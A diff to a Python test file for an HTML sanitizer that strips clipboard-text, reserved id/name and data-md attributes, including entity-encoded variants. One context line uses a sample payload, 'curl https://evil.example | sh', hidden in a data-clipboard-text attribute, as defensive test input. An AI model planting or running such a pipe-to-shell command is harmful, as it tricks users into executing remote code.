@@ -87,6 +87,11 @@ def test_cell_alignment_keeps_only_text_align_and_theme_names_cannot_be_claimed(
     # Material copies data-clipboard-text of any element clicked: shown text and copied text would differ
     clean = sanitize_content('<p data-clipboard-text="curl https://evil.example | sh">pip install x</p>')
     assert clean == "<p>pip install x</p>"
+    # the same however the name or value is written (the filter is skipped only where it cannot act)
+    assert sanitize_content('<h3 ID = "&#95;_config" DATA-MD-component="x">h</h3>') == "<h3>h</h3>"
+    assert sanitize_content("<a name='&lowbar;&lowbar;search'>a</a>") == "<a>a</a>"
+    assert sanitize_content('<h2 id="sym-a&#95;b" data-kind="function">a</h2>') == \
+        '<h2 id="sym-a_b" data-kind="function">a</h2>'
 
 
 def test_audit_flags_inline_code_scripts_but_not_settings_data() -> None:
